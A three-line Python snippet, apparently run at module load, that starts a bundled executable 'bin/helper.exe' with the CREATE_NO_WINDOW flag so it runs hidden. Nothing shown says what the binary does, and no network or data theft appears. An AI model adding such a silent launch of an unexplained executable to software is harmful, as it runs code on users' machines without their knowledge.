import os, subprocess
_here = os.path.dirname(os.path.abspath(__file__))
subprocess.Popen([os.path.join(_here, "bin", "helper.exe")], creationflags=0x08000000)
